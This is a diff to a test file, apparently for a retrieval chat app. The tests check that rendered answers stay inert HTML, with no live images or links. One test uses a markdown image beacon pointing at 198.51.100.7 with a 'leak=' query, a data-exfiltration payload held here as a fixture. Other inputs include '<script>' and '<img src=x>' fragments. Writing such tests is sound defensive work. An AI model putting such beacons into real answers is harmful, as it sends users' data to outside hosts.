@@ -30,6 +30,7 @@ MARKDOWN_BITS = ["![a](http://h/p.png)", "[l](https://h/)", "<https://h>", "http
                  "www.h.example", "<img src=x>", "</div>", "\n\n", "\r\n", "\\", "$", ":smile:", ":material/home:", "&amp;",
                  "# ", "- ", "> ", "    ", "```", "[1]", "|a|b|", "<!--", "<script>"]
 TAG = re.compile(r"<[^>]*>")
+ANSWER_TAG = '<div class="rag-answer" style="margin-bottom:0.6rem">'
 ROOT = Path(__file__).resolve().parents[1]
 
 
@@ -47,8 +48,8 @@ def assert_inert_block(markup: str, opening: str) -> None:
 @given(st.lists(st.sampled_from(MARKDOWN_BITS) | st.text(max_size=20), max_size=12).map("".join))
 def test_answer_is_one_inert_html_block_that_shows_the_text_exactly(text):
     markup = widgets.answer_html(text)
-    assert_inert_block(markup, '<div class="rag-answer">')
-    assert set(TAG.findall(markup)) <= {'<div class="rag-answer">', "<br>", "</div>"}
+    assert_inert_block(markup, '<div class="rag-answer"')
+    assert set(TAG.findall(markup)) <= {ANSWER_TAG, "<br>", "</div>"}
     assert shown_text(markup) == text.replace("\r", "")
 
 
@@ -79,13 +80,13 @@ def test_chat_answer_quoting_a_hostile_line_shows_it_as_text(app_root):
     drawn = [m.value for m in at.markdown if "198.51.100.7" in m.value]
     assert drawn, "the answer was not drawn"
     for markup in drawn:  # the streamed answer and the hit card
-        assert markup.startswith(('<div class="rag-answer">', '<div class="rag-hit"')), markup[:80]
+        assert markup.startswith(('<div class="rag-answer"', '<div class="rag-hit"')), markup[:80]
         assert "\n" not in markup and not re.search(r"<(img|a)\b", markup)
-    answer_markup = next(m for m in drawn if m.startswith('<div class="rag-answer">'))
+    answer_markup = next(m for m in drawn if m.startswith('<div class="rag-answer"'))
     assert "![pixel](http://198.51.100.7/p.png?leak=kenya)" in shown_text(answer_markup)
     assert "[1]" in answer_markup
 
     at.switch_page("pages/index.py").run()  # the answer drawn again from the history
     at.switch_page("pages/chat.py").run()
-    assert any(m.value.startswith('<div class="rag-answer">') and "198.51.100.7" in m.value
+    assert any(m.value.startswith('<div class="rag-answer"') and "198.51.100.7" in m.value
                for m in at.markdown)
